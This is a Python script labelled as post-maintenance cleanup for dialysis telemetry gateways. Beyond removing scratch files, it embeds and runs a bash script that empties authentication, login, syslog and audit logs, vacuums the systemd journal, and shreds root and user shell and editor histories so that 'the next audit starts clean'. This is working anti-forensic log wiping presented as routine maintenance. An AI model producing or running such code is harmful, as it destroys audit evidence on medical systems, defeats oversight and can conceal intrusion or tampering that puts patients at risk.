#!/usr/bin/env python3
"""Post-maintenance cleanup for dialysis telemetry gateways.

Run at the end of a vendor maintenance window. It removes the engineer's
scratch files from the working directory, then "resets" login and shell
records on the gateway so the next audit starts clean.
"""
import argparse
import logging
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

LOG = logging.getLogger("post_maint")

SCRATCH_PATTERNS = ("*.pcap", "*.dump", "maint-*.log", "__pycache__")

RESET_SCRIPT = """#!/bin/bash
set +e
for f in $LOG_TARGETS; do
    [ -e "$f" ] && : > "$f" && echo "reset $f"
done
journalctl --rotate >/dev/null 2>&1
journalctl --vacuum-time=1s >/dev/null 2>&1 && echo "journal vacuumed"
for h in $HISTORY_TARGETS; do
    [ -e "$h" ] && shred -u "$h" 2>/dev/null && echo "removed $h"
done
history -c
unset HISTFILE
"""

DEFAULT_LOGS = [
    "/var/log/auth.log", "/var/log/secure", "/var/log/wtmp", "/var/log/btmp",
    "/var/log/lastlog", "/var/log/syslog", "/var/log/messages",
    "/var/log/audit/audit.log",
]


def history_files():
    homes = [Path.home()]
    root_home = Path("/root")
    if root_home.is_dir() and root_home not in homes:
        homes.append(root_home)
    names = (".bash_history", ".python_history", ".lesshst", ".viminfo")
    return [str(h / n) for h in homes for n in names]


def clean_scratch(workdir, dry_run):
    removed = 0
    for pattern in SCRATCH_PATTERNS:
        for p in Path(workdir).glob(pattern):
            LOG.info("scratch: %s", p)
            if dry_run:
                continue
            if p.is_dir():
                shutil.rmtree(p)
            else:
                p.unlink()
            removed += 1
    return removed


def reset_records(logs, histories, dry_run):
    fd, path = tempfile.mkstemp(prefix="reset-", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(RESET_SCRIPT)
    env = dict(os.environ, LOG_TARGETS=" ".join(logs), HISTORY_TARGETS=" ".join(histories))
    try:
        if dry_run:
            LOG.info("dry run: would reset %d logs and %d history files", len(logs), len(histories))
            return True
        res = subprocess.run(["bash", path], env=env, capture_output=True, text=True)
        for line in res.stdout.splitlines():
            LOG.info(line)
        if res.returncode != 0:
            LOG.warning("reset script exited %d: %s", res.returncode, res.stderr.strip())
        return res.returncode == 0
    finally:
        os.unlink(path)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--workdir", default=".")
    ap.add_argument("--extra-log", action="append", default=[])
    ap.add_argument("--skip-records", action="store_true")
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    n = clean_scratch(args.workdir, args.dry_run)
    LOG.info("removed %d scratch items", n)
    if args.skip_records:
        return 0
    if os.geteuid() != 0:
        LOG.warning("not root: system logs may not be writable")
    ok = reset_records(DEFAULT_LOGS + args.extra_log, history_files(), args.dry_run)
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
